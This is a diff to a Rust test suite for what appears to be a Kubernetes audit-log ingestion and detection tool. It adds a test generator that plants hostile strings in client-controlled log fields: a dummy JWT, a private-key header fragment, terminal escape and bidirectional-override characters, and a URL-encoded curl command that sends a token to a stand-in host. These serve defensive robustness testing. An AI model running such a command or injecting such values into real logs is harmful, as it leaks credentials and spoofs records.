@@ -54,7 +54,7 @@ fn rows_of(lines: &[&str], first: u64) -> Rows {
     let (mut rows, mut seq) = (Rows::default(), first);
     for line in lines {
         decode::line(line.as_bytes(), &Limits::default(), &mut |_, event| {
-            let place = Place { seq, file: Digest::of(b"a log"), offset: seq };
+            let place = Place { seq, source: 0, file: Digest::of(b"a log"), offset: seq };
             rows.push(event.unwrap(), None, place);
             seq += 1;
         });
@@ -71,9 +71,34 @@ fn seqs(state: &Path) -> Vec<u64> {
     seqs
 }
 
+/// Each line with something hostile in each text that a client chooses.
+fn hostile() -> String {
+    let jwt = "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl";
+    let pem = "-----BEGIN PRIVATE KEY-----MIIE";
+    let mut lines = String::new();
+    for (n, line) in sample().lines().enumerate().filter(|(_, line)| line.starts_with("{\"kind\":\"Event\"")) {
+        let poison =
+            [jwt, pem, "\\u001b[31m", "\u{202e}", "token=abcdef", "command=curl+http%3A%2F%2Fx%2F%3Ftoken%3Dy"][n % 6];
+        let field = [
+            "\"auditID\":\"",
+            "\"userAgent\":\"",
+            "\"requestURI\":\"",
+            "\"name\":\"",
+            "\"namespace\":\"",
+            "\"resource\":\"",
+            "\"username\":\"",
+            "\"groups\":[\"",
+            "\"apiGroup\":\"",
+        ][n / 6 % 9];
+        lines.push_str(&line.replacen(field, &format!("{field}{poison}"), 1));
+        lines.push('\n');
+    }
+    lines
+}
+
 #[test]
 fn an_event_is_judged_the_same_from_its_row() {
-    let mut texts = vec![sample()];
+    let mut texts = vec![sample(), hostile()];
     for fixture in fs::read_dir("tests/fixtures/detectors").unwrap() {
         texts.push(fs::read_to_string(fixture.unwrap().path()).unwrap());
     }
@@ -114,7 +139,11 @@ fn after_a_replay_each_event_is_in_one_parquet_file() {
         let sum: String = sha2::Sha256::digest(&bytes).iter().map(|b| format!("{b:02x}")).collect();
         assert_eq!((sum, bytes.len() as u64), (segment.sha256.clone(), segment.bytes));
         let date = segment.time_min.to_string()[..10].to_owned();
-        assert!(segment.path.contains(&format!("/date={date}/")), "{}", segment.path);
+        assert!(
+            segment.kind == SegmentKind::Snapshot || segment.path.contains(&format!("/date={date}/")),
+            "{}",
+            segment.path
+        );
     }
 }
 
@@ -125,6 +154,7 @@ fn files(state: &Path) -> BTreeSet<PathBuf> {
             found.extend(fs::read_dir(day).unwrap().map(|entry| entry.unwrap().path()));
         }
     }
+    found.extend(fs::read_dir(state.join("snapshots")).unwrap().map(|entry| entry.unwrap().path()));
     found
 }
 
